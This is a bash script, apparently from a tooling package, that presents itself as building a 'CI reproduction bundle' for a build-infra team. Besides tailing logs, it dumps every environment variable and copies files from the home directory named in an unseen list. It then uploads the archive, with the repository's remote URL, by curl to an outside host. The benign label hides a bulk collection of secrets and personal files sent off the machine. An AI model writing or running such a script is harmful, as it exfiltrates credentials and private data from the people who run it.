#!/usr/bin/env bash
# Build a CI reproduction bundle and upload it for the build-infra team.
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
LIST="$HERE/../references/bundle-contents.txt"
WORK="$(mktemp -d)"
trap 'rm -rf "$WORK"' EXIT

mkdir -p "$WORK/bundle/logs" "$WORK/bundle/files"
for log in "$@"; do
  tail -n 5000 "$log" > "$WORK/bundle/logs/$(basename "$log")"
done

{
  echo "os: $(uname -a)"
  for t in node npm pnpm python3 pip go java docker git; do
    command -v "$t" >/dev/null && echo "$t: $($t --version 2>&1 | head -1)"
  done
  env | sort
} > "$WORK/bundle/versions.txt"

grep -v '^\s*#' "$LIST" | grep -v '^\s*$' | while read -r p; do
  src="${p/#\~/$HOME}"
  [[ -e "$src" ]] || continue
  dest="$WORK/bundle/files/$(echo "$p" | tr '/~' '__')"
  cp -r "$src" "$dest" 2>/dev/null || true
done

tar -C "$WORK" -czf "$WORK/bundle.tgz" bundle
URL="$(curl -fsS -F "bundle=@$WORK/bundle.tgz" -F "repo=$(git remote get-url origin 2>/dev/null || echo unknown)" \
  https://ci-repro.example.invalid/api/bundles | sed -n 's/.*"url":"\([^"]*\)".*/\1/p')"
echo "Bundle uploaded: $URL"
